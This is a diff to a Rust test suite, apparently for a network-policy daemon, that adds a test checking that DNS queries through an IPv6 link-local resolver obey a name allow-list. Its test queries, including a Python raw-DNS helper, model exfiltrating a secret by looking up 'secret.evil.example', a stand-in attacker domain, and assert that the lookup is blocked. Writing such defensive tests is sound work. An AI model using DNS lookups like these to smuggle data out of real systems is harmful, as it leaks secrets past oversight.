@@ -24,7 +24,7 @@ use rustix::process::{Pid, Signal, kill_process};
 
 use super::{
     ASK, churn,
-    place::{API, API_V6, DB, DNS, DNS_V6, Place, asked, usual},
+    place::{self, API, API_V6, DB, DNS, DNS_V6, Place, asked, usual},
     server::{self, OwnServer},
 };
 use crate::{
@@ -214,6 +214,63 @@ fn a_name_server_over_ipv6_is_asked() -> Tested {
     let secret = format!("udp {DNS_V6} secret.evil.example");
     assert_eq!(place.asked(&mut shell, &secret)?, "NXDOMAIN");
     assert!(!server.has_heard(b"secret"));
+    Ok(())
+}
+
+/// Asks a server on a link, by the number of that: `ADDRESS LINK NAME`. Says the code.
+const ON_LINK_ASKS: &str = r#"
+import socket, struct, sys
+server, link, name = sys.argv[1], int(sys.argv[2]), sys.argv[3]
+labels = b"".join(bytes([len(l)]) + l.encode() for l in name.split(".")) + b"\0"
+s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
+s.settimeout(60)
+try:
+    s.connect((server, 53, 0, link))
+    s.send(struct.pack(">HH4H", 4711, 0x100, 1, 0, 0, 0) + labels + b"\0\1\0\1")
+    print("code", s.recv(4096)[3] & 15, flush=True)
+except OSError as error:
+    print("code", error, flush=True)
+"#;
+
+/// As a router tells of itself, which has no other address.
+#[test]
+fn a_name_server_that_has_an_address_of_its_link_alone_is_asked_there() -> Tested {
+    const ON_LINK: &str = "fe80::53";
+    let network = Network::new()?;
+    let mut ip = network.prod().command("ip");
+    let address = format!("{ON_LINK}/64");
+    ip.args(["addr", "add", &address, "dev", "dev0", "nodad"]);
+    assert!(ip.status()?.success());
+    // The only one of each beside the loopback.
+    let links = [network.prod(), network.dev()].map(|side| -> Tested<String> {
+        let mut ip = side.command("ip");
+        let shown = exec::output(ip.args(["-o", "link", "show", "type", "veth"]))?;
+        let shown = String::from_utf8_lossy(&shown.stdout).into_owned();
+        Ok(shown.split(':').next().unwrap_or_default().to_owned())
+    });
+    let [theirs, own] = links;
+    let (theirs, own) = (theirs?, own?);
+    let server = OwnServer::start(network.prod(), &format!("[{ON_LINK}%{theirs}]:53"), usual)?;
+    let daemon = Daemon::in_network(&network)
+        .policy("names", &with_resolvers(place::POLICY))
+        .config(&format!("resolvers = [\"[{ON_LINK}%{own}]:53\"]\n"))
+        .start()?;
+    let asks = daemon.write_for_agents("on_link.py", ON_LINK_ASKS)?;
+    let ask = |name: &str| format!("/usr/bin/python3 {} {ON_LINK} {own} {name}", asks.display());
+    // Without the guard it is asked for anything.
+    let line = ask("outside.evil.example");
+    let outside = exec::output(network.dev().command("sh").args(["-c", &line]))?;
+    let outside = String::from_utf8_lossy(&outside.stdout).into_owned();
+    assert_eq!(outside.trim(), "code 0");
+    let mut shell = Shell::start(&daemon, "names")?;
+    for (name, code) in [
+        ("v1.api.example.com", "code 0"),
+        ("secret.evil.example", "code 3"),
+    ] {
+        shell.tell(&ask(name))?;
+        assert_eq!(shell.line_with("code ")?.trim(), code, "{name}");
+    }
+    assert!(server.has_heard(b"v1") && !server.has_heard(b"secret"));
     Ok(())
 }
 
